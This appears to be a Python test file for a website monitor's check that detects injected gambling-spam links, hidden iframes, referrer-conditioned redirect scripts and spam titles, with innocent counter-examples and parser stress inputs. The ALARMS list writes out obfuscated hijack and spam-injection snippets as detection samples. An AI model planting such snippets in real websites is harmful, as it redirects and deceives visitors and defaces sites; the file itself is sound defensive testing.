# ruff: noqa: E501 - markup reads best as it is sent
"""Injected links, frames, scripts, redirects and titles: every technique found, no honest page accused."""

from __future__ import annotations

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checks.model import Confidence, Severity
from checks.security.injection.check import InjectedLinks
from monitor.settings.checks import settings_of
from tests.checks.security.injection.honest import HABITS
from tests.checks.security.injection.layouts import LAYOUTS
from tests.checks.security.injection.poison import TECHNIQUES
from tests.cost import assert_bounded

SEEDS = range(2)


def built(make, layout, seed):
    """Put what a technique or habit makes into a skeleton."""
    made = make(random.Random(f"{make.__name__} {layout.__name__} {seed}"))
    return made(layout()) if callable(made) else layout(**made)


def found(page, **fields):
    return list(InjectedLinks(**fields).inspect(page))


def rules(page, **fields):
    return {finding.rule.id for finding in found(page, **fields)}


@pytest.mark.parametrize("make", TECHNIQUES.values(), ids=TECHNIQUES)
@pytest.mark.parametrize("layout", LAYOUTS, ids=lambda layout: layout.__name__)
def test_every_technique_is_found_in_every_layout(parsed, make, layout):
    missed = [seed for seed in SEEDS if not found(parsed(built(make, layout, seed)))]
    assert missed == []


STRANGERS_ALL = InjectedLinks().knowing(frozenset({"www.example.com"}))
"""The check where no earlier inspection has met any of the hosts that a page links to."""


@pytest.mark.parametrize("make", HABITS.values(), ids=HABITS)
@pytest.mark.parametrize("layout", LAYOUTS, ids=lambda layout: layout.__name__)
def test_no_honest_page_is_accused(parsed, make, layout):
    pages = [parsed(built(make, layout, seed)) for seed in SEEDS]
    accused = [list(check.inspect(page)) for check in (InjectedLinks(), STRANGERS_ALL) for page in pages]
    assert [finding.evidence for findings in accused for finding in findings] == []


@pytest.mark.parametrize("layout", LAYOUTS, ids=lambda layout: layout.__name__)
def test_the_layouts_themselves_are_clean(parsed, layout):
    assert found(parsed(layout())) == []


def test_there_is_enough_to_show_for():
    assert len(TECHNIQUES) * len(LAYOUTS) >= 60
    assert len(HABITS) * len(LAYOUTS) >= 300


PAGE = "<html><head><title>清河县人民政府</title></head><body>{}</body></html>"

ALARMS = [
    ('<div style="display:none"><a href="http://www.example.com/">澳门新葡京</a></div>', "injected-link"),
    ('<a href="http://www.example.com/">百家乐</a>', "injected-link"),
    ('<a href="http://www.example.com/">博彩</a>', "injected-link"),
    ('<a href="http://www.example.com/">澳門賭場</a>', "injected-link"),
    ('<a href="http://www.example.com/">b e t 3 6 5 真.人.百.家.乐</a>', "injected-link"),
    ('<div style="display:none"><a href="http://www.other.gov.cn/x/">网上真钱赌博平台</a></div>', "injected-link"),
    ('<div style="display:none"><a href="/wwwroot/bo/1.html">真人百家乐开户</a></div>', "injected-link"),
    ('<div style="display:none"><a href="http://bet365.example.com/">进入</a></div>', "injected-link"),
    ('<div style="position:absolute;left:-9999px"><a href="http://www.example.com/">abc</a></div>', "injected-link"),
    ('<div style="display:none"><a href="http://www.example.com/casino/">abc</a></div>', "injected-link"),
    ('<p><a href="http://www.example.com/">スーパーコピー時計</a></p>', "injected-link"),
    ('<p><a href="http://www.example.com/">nhà cái uy tín</a></p>', "injected-link"),
    ('<p><a href="http://www.example.com/">slot gacor judi online</a></p>', "injected-link"),
    ("<iframe src=//www.example.com/ width=1 height=1></iframe>", "injected-frame"),
    ("<script>window['loc'+'ation']['href']='//www.'+'exa'+'mple.com'</script>", "injected-script"),
    ("<script>setTimeout(\"location.href='http://www.xpj9988.com'\",9)</script>", "injected-script"),
    ("<script>if(/sogou/.test(document.referrer))location='//www.example.com/'</script>", "injected-script"),
    ('<meta http-equiv=refresh content="0;url=http://www.example.com/">', "injected-redirect"),
    (
        "<script>(function(){var r=document['ref'+'errer'];if(r.match(/baidu|sogou|so\\.com/)){window.top.location.replace("
        "'http://m.example.com')}})()</script>",
        "injected-script",
    ),
    (
        "<script>var u='';if(/baidu/.test(document.referrer)){u='//m.example.com/'}if(u){top.location=u}</script>",
        "injected-script",
    ),
    (
        "<script>var i=function(){return /sogou|baidu/.test(document.referrer)};function go(){var s=document.createElement("
        "'script');s.src='//www.example.com/a.js';document.body.appendChild(s)}if(i()){go()}</script>",
        "injected-script",
    ),
    (
        "<div id=f></div><script>document.getElementById('f').innerHTML+='<a href=\"http://www.bocai-x.example/\">"
        "某某直播</a>'</script>",
        "injected-link",
    ),
    ("<script>f.innerHTML+='<a href=\"http://www.example.com/\">某某情色直播</a>'</script>", "injected-link"),
    (
        '<div style="display:none"><a href="http://www.example.com/">澳门赌场</a></div><script>var from=document.referrer;'
        'var re=new RegExp(" ","gi");from=from.replace(re,"");</script>',
        "injected-link",
    ),
]

INNOCENT = [
    '<a href="http://www.example.com/">清河县自来水公司</a>',
    '<div style="display:none"><a href="http://www.example.com/">青山旅游</a></div>',
    '<div style="display:none"><a href="/a.html">旧版首页</a><a href="http://www.mof.gov.cn/">财政部</a></div>',
    '<div class="sub-menu" style="left:-9999px;position:absolute"><a href="http://www.example.com/">数字清河</a></div>',
    '<a href="/art/1.html">博彩</a>',
    '<a href="/art/1.html">百家乐赌具收藏</a>',
    '<a href="https://weibo.com/u/1">真人图书馆</a>',
    '<a href="http://10.1.1.1/">内网办公</a>',
    '<a href="javascript:void(0)" style="display:none">百家乐</a>',
    '<a name="top"></a><a href=""></a><a href="#"></a>',
    "<script>var a='<a href=\"'+b+'\">';document.write(a+'</a>')</script>",
    "<script>document.write('<a href=\"http://www.example.com/\">清河软件</a>')</script>",
    "<script>location.href='/index.html'</script>",
    "<script>if(document.referrer){location.href='http://www.qinghe.gov.cn/new'}</script>",
    '<meta http-equiv="refresh" content="3;url=http://www.example.com/"><p>本站已迁移，正在跳转到新网址</p>',
    "<script>(function(){var s=document.createElement('script');s.src='https://push.example.com/push.js';document.body"
    ".appendChild(s);var from=/baidu|sogou|google/.test(document.referrer)?'search':'direct';window._from=from})()</script>",
    "<script>document.write('<script src=\"//tj.example.com/tj.js\"><\\/script>');var r=document.referrer,k='';if(/baidu/.test"
    "(r)){k='baidu'}else if(/so\\.com/.test(r)){k='360'}_tj.push(['from',k])</script>",
    "<script>if(/baidu|google/.test(document.referrer)){(new Image).src='//tj.example.com/b.gif';var i=new Image();"
    "i.src='//tj.example.com/s.gif?r='+document.referrer}</script>",
    "<script>if(!/bot|spider|crawl/i.test(navigator.userAgent)){var s=document.createElement('script');"
    "s.src='//tj.example.com/t.js';document.head.appendChild(s)}</script>",
    "<script>var u='http://share.example.com/?from='+encodeURIComponent(document.referrer);var e={baidu:'百度'};"
    "function share(){window.open(u)}</script>",
]


@pytest.mark.parametrize(("body", "rule"), ALARMS)
def test_two_signals_that_meet_are_an_alarm(parsed, body, rule):
    assert rules(parsed(PAGE.format(body))) == {rule}


@pytest.mark.parametrize("body", INNOCENT)
def test_one_signal_alone_is_none(parsed, body):
    assert rules(parsed(PAGE.format(body))) == set()


TITLES = [
    ("澳门威尼斯人官网_真人百家乐", "", True),
    ("&#28595;&#38376;&#36172;&#22330;", "", True),
    ("清河县人民政府", "百家乐,六合彩,时时彩", False),
    ("百家乐-清河县", "百家乐,六合彩", True),
    ("县公安局捣毁一“百家乐”赌博窝点", "百家乐,赌博", False),
    ("福利彩票双色球开奖公告", "双色球,福利彩票", False),
    ("&#28165;&#27827;&#21439;&#25919;&#24220;", "", False),
    ("关于电子游艺场所管理的规定", "电子游艺", False),
]


@pytest.mark.parametrize(("title", "keywords", "alarm"), TITLES)
def test_a_title_is_judged_with_what_stands_beside_it(parsed, title, keywords, alarm):
    html = f'<html><head><title>{title}</title><meta name="keywords" content="{keywords}"></head><p>清河县</p></html>'
    assert rules(parsed(html)) == ({"injected-title"} if alarm else set())


def test_an_injection_is_critical_and_says_which_signals_met(parsed):
    (finding,) = found(parsed(PAGE.format(ALARMS[0][0])))
    assert finding.weight is Severity.CRITICAL
    assert "www.example.com" in finding.rule.say(finding, "zh-CN")
    assert "display:none" in finding.rule.say(finding, "zh-CN")
    assert "gambling" in finding.rule.say(finding, "en")
    assert "澳门新葡京" in finding.evidence
    assert finding.params["hosts"] == ["www.example.com"]


def test_a_block_is_one_finding_with_all_its_hosts(parsed):
    links = "".join(f'<a href="http://www.example{number}.com/">六合彩{number}</a>' for number in range(30))
    (finding,) = found(parsed(PAGE.format(f'<div style="display:none">{links}</div>')))
    assert finding.params["count"] == 30
    assert len(finding.params["hosts"]) == 20


def test_one_injection_in_a_template_is_one_finding(parsed):
    html = PAGE.format(ALARMS[0][0])
    prints = {
        finding.fingerprint
        for number in range(3)
        for finding in found(parsed(html, f"https://www.qinghe.gov.cn/{number}.html"))
    }
    assert len(prints) == 1


def test_known_hosts_are_never_strange_and_others_then_are(parsed):
    dull = '<div style="display:none"><a href="http://www.example.com/">青山</a></div>'
    page = parsed(PAGE.format(dull))
    assert rules(page, known_hosts=("www.example.com",)) == set()
    assert rules(page, known_hosts=("www.example.org",)) == {"injected-link"}


def test_whom_earlier_inspections_met_is_strange_still_but_not_new(parsed):
    dull = '<div style="display:none"><a href="http://www.example.com/">青山</a></div>'
    named = dull.replace("青山", "青山软件公司")
    sells = dull.replace("青山", "澳门博彩官网")

    def judged(body, *hosts):
        check = InjectedLinks().knowing(frozenset(hosts))
        return [finding.confidence for finding in check.inspect(parsed(PAGE.format(body)))]

    assert judged(dull) == judged(dull, "www.example.com") == judged(named, "www.example.org") == []
    assert judged(dull, "www.example.org") == [Confidence.SUSPECTED]
    assert judged(sells, "www.example.com") == judged(sells, "www.example.org") == [Confidence.CONFIRMED]


def test_what_earlier_inspections_met_is_no_setting_and_changes_no_version():
    check = InjectedLinks(known_hosts=("a.cn",))
    assert repr(check.knowing(frozenset({"b.cn"}))) == repr(check)
    assert "seen_hosts" not in settings_of(InjectedLinks).model_fields


def test_a_site_may_link_to_its_own_hosts(parsed):
    html = PAGE.format('<div style="position:absolute;left:-9999px"><a href="http://old.example.com/">abc</a></div>')
    assert rules(parsed(html, "https://www.example.com/")) == set()


def test_every_finding_speaks_both_languages(parsed):
    pages = [parsed(built(make, LAYOUTS[0], 0)) for make in TECHNIQUES.values()]
    for finding in (finding for page in pages for finding in found(page)):
        assert finding.rule.say(finding, "zh-CN") != finding.rule.say(finding, "en")


PIECES = st.sampled_from(
    [
        *(
            "<div style='display:none'>",
            "</div>",
            "<script>",
            "</script>",
            "<style>",
            "</style>",
            "<a href='http://a.com'>",
            "</a>",
        ),
        *(
            "document.write('",
            "')",
            "unescape(",
            "String.fromCharCode(60,",
            "eval(",
            "\\x3c",
            "%3C",
            "&#x6f;",
            "{",
            "}",
            "/*",
            "*/",
            "@media",
        ),
        *(
            "<title>",
            "</title>",
            "<iframe src=",
            "百家乐",
            ".a{left:-9999px}",
            '"',
            "'",
            "`",
            "[",
            "]",
            "+",
            "//",
            "/",
            "\n",
            "<!--",
            "-->",
        ),
        *(
            ".split('').reverse().join('')",
            ".replace(/a/g,'b')",
            "var a=",
            "location.href=",
            "document.referrer",
            "baidu",
            "charCodeAt",
        ),
    ]
)


@given(st.lists(PIECES | st.text(max_size=8), max_size=60).map("".join))
@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_arbitrary_html_is_judged_without_crashing(parsed, html):
    assert isinstance(found(parsed(html)), list)


BOMBS = {
    "open brackets": "<script>document.write(" + "(" * 50_000 + "</script>",
    "open arrays": "<script>document.write(" + "[" * 50_000 + "</script>",
    "plus signs": "<script>document.write(" + "'a'+" * 50_000 + "'b')</script>",
    "quotes": "<script>document.write(" + "'" * 100_001 + ")</script>",
    "slashes": "<script>document.write(" + "/[" * 50_000 + "</script>",
    "comments": "<style>" + "/*" * 50_000 + "</style><a href='http://a.com'>百家乐</a>",
    "blocks": "<style>" + "a{" * 50_000 + "</style><a href='http://a.com'>百家乐</a>",
    "rules": "<style>"
    + "".join(f".a{n}{{display:none}}" for n in range(20_000))
    + "</style><a href='http://a.com'>百家乐</a>",
    "links": "<a href='http://www.example.com/'>百家乐</a>" * 20_000,
    "titles": "<title>" + "&#x6f;" * 50_000,
    "codes": "<script>String.fromCharCode(" + "60," * 50_000 + "</script>",
    "nesting": "<div style='display:none'>" * 400 + "<a href='http://a.com'>百家乐</a>" * 400,
    "hrefs": "<a href='&#104;&#116;" * 20_000,
    "ciphers": "<script>fromCharCode charCodeAt '" + "x" * 150_000 + "'</script>",
}


@pytest.mark.parametrize("html", BOMBS.values(), ids=BOMBS)
def test_hostile_pages_cost_bounded_time(parsed, html):
    page = parsed(html)
    assert_bounded(lambda: found(page), 2)


STATE_BODIES = (
    "<p>国务院直属事业单位</p><div id=x></div><script>document.getElementById('x').innerHTML=\"<a href='http://203.0.113.89/xhs/'>"
    "<li>新华通讯社</li></a><a href='http://www.cas.cn/'><li>中国科学院</li></a>\"</script>"
)
CERTAINTIES = [
    (STATE_BODIES, Confidence.SUSPECTED),
    (STATE_BODIES.replace("新华通讯社", "澳门赌场"), Confidence.CONFIRMED),
    (f'<div style="position:absolute;left:-9999px">{STATE_BODIES}</div>', Confidence.SUSPECTED),
    ('<div style="position:absolute;left:-9999px"><a href="http://203.0.113.89/">abc</a></div>', Confidence.CONFIRMED),
    ("<script>document.write('<a href=http://12345.top/>abc</a>')</script>", Confidence.SUSPECTED),
    (
        '<div style="position:absolute;left:-9999px"><a href="http://203.0.113.8/oa">办公系统</a></div>',
        Confidence.SUSPECTED,
    ),
    ('<div style="display:none"><a href="http://203.0.113.8/">abc</a></div>', Confidence.CONFIRMED),
]


@pytest.mark.parametrize("text", ["省审计厅", "办公系统", "旧版网站", "邮箱登录"])
def test_an_older_system_at_a_bare_address_may_be_hidden_as_menus_are(parsed, text):
    assert not found(parsed(f'<ul style="display:none"><li><a href="http://203.0.113.8:8080/">{text}</a></ul>'))


MADE_LINKS = (
    "a.href='http://bc88.example/';a.innerHTML='澳门赌场'",
    "a.textContent='澳门赌场';a.href='http://bc88.example/'",
    "a.setAttribute('href','http://bc88.example/');a.text='澳门'+'赌场'",
)


@pytest.mark.parametrize("source", MADE_LINKS)
def test_a_link_that_a_script_makes_piece_by_piece(parsed, source):
    assert found(parsed(f"<script>var a=document.createElement('a');{source};document.body.appendChild(a)</script>"))


def test_a_link_of_svg_is_a_link(parsed):
    assert found(parsed('<svg><a xlink:href="http://bc88.example/"><text>澳门赌场</text></a></svg>'))


@pytest.mark.parametrize(("body", "confidence"), CERTAINTIES)
def test_only_words_and_hiding_make_an_alarm_certain(parsed, body, confidence):
    assert [finding.confidence for finding in found(parsed(PAGE.format(body)))] == [confidence]
